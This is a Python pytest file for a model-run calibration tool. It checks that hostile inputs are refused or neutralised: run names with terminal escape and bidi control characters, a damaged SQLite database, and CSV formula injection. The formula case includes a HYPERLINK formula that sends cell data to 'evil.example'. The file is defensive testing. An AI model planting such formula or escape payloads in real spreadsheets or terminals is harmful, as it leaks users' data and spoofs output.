"""Values in a model run an adversary (or an odd export) chooses — a run name or model
version with `$`, control characters or a spreadsheet formula, a score written `-0` — and
a damaged database under `score --json`: shown as written, refused or neutralised."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

import pytest

from calibrate.cli import main
from calibrate.workspace import Workspace
from tests.machine_data import write_alpha


@pytest.fixture
def lessons(tmp_path: Path) -> Path:
    folder = tmp_path / "lessons"
    folder.mkdir()
    write_alpha(folder)
    return folder


def _import(db: Path, lessons: Path, body: str, name: str = "m") -> int:
    file = db.parent / "run.csv"
    file.write_text(body)
    argv = ["machine", "import", str(file), "--db", str(db), "--name", name]
    return main([*argv, "--lessons", str(lessons)])


def _scoreboard(db: Path, lessons: Path):
    ws = Workspace.open(db, [lessons])
    try:
        ws.lessons.load()
        return ws.machines.scoreboard()
    finally:
        ws.close()


def test_a_dollar_in_a_run_name_is_drawn_as_written_and_one_case_is_one(
    tmp_path, lessons, capsys
) -> None:
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from calibrate.charts.dashboard.machines import scoreboard_figure

    db = tmp_path / "runs.sqlite3"
    body = "case_id,decision,model_version\nc1,remove,v$2\n"
    assert _import(db, lessons, body, name="m$1") == 0
    assert "run m$1 v$2 imported: 1 decision on alpha." in capsys.readouterr().out
    (entry,) = _scoreboard(db, lessons).entries
    figure = scoreboard_figure(entry)
    FigureCanvasAgg(figure).draw()
    assert figure.get_suptitle() == "m$1 v$2 on alpha"  # no backslash before the `$`
    labels = [t.get_text() for axes in figure.axes for t in axes.get_yticklabels()]
    assert "model\n(1 case)" in labels


def test_a_score_of_minus_zero_is_the_same_run_as_zero(tmp_path, lessons, capsys) -> None:
    db = tmp_path / "runs.sqlite3"
    assert _import(db, lessons, "case_id,decision,score\nc1,remove,0\n") == 0
    capsys.readouterr()
    assert _import(db, lessons, "case_id,decision,score\nc1,remove,-0\n") == 0
    assert "already stored with the same 1 decision." in capsys.readouterr().out
    stored = sqlite3.connect(db).execute("SELECT score FROM machine_decisions").fetchall()
    assert [str(s) for (s,) in stored] == ["0.0"]


@pytest.mark.parametrize("name", ["m\x1b]0;pwned\x07", "m\nfake line", "m\u202eevil"])
def test_a_run_name_with_control_characters_is_refused(tmp_path, lessons, capsys, name) -> None:
    db = tmp_path / "runs.sqlite3"
    assert _import(db, lessons, "case_id,decision\nc1,remove\n", name=name) == 2
    err = capsys.readouterr().err
    assert err.startswith("calibrate machine import: --name 'm\\")
    assert "has a control character" in err and len(err.splitlines()) == 1
    assert not any(c in err for c in "\x1b\x07\u202e") and not db.exists()


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        ("DROP TABLE machine_decisions", "no such table: machine_decisions"),
        ("UPDATE machine_runs SET name = 'gone'", "no run named 'm'"),
    ],
)
def test_score_json_prints_the_error_object_for_a_damaged_database(
    tmp_path, lessons, capsys, damage, message
) -> None:
    db = tmp_path / "runs.sqlite3"
    assert _import(db, lessons, "case_id,decision\nc1,remove\n") == 0
    conn = sqlite3.connect(db)
    conn.execute(damage)
    conn.commit()
    conn.close()
    capsys.readouterr()
    assert main(["machine", "score", "m", "--db", str(db), "--json"]) == 2
    out, err = capsys.readouterr()
    error = json.loads(out)["error"]
    assert message in error["message"] and message in err.splitlines()[0]
    assert "Traceback" not in err


def test_exported_scoreboard_cells_never_start_a_formula(tmp_path, lessons, capsys) -> None:
    from calibrate.gui.widgets.table_panel import write_csv

    db = tmp_path / "runs.sqlite3"
    version = '=HYPERLINK("http://evil.example/"&A1,"x")'
    body = f'case_id,decision,model_version\nc1,remove,"{version.replace(chr(34), 2 * chr(34))}"\n'
    assert _import(db, lessons, body, name="@SUM(1+1)") == 0
    header, rows = _scoreboard(db, lessons).figures()
    path = write_csv(tmp_path / "models.csv", header, rows)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["rater"] == "'@SUM(1+1)" and row["version"] == "'" + version
    assert not any(cell[:1] and cell[:1] in "=+-@\t\r" for cell in row.values())
    assert float(row["accuracy"]) == 1.0  # numbers stay numbers


def test_a_csv_export_neutralises_formulas_but_keeps_numbers(tmp_path) -> None:
    from calibrate.gui.widgets.table_panel import write_csv

    rows = [
        ("=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", -0.5, "-0.5", "+3", "1e-3", "a=b"),
    ]
    path = write_csv(tmp_path / "t.csv", [f"c{i}" for i in range(11)], rows, (("f", "=x"),))
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (_, written) = list(csv.reader(handle))
    assert written == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@A1",
        "'\tx",
        "'\rx",
        "-0.5",
        "-0.5",
        "+3",
        "1e-3",
        "a=b",
        "'=x",
    ]
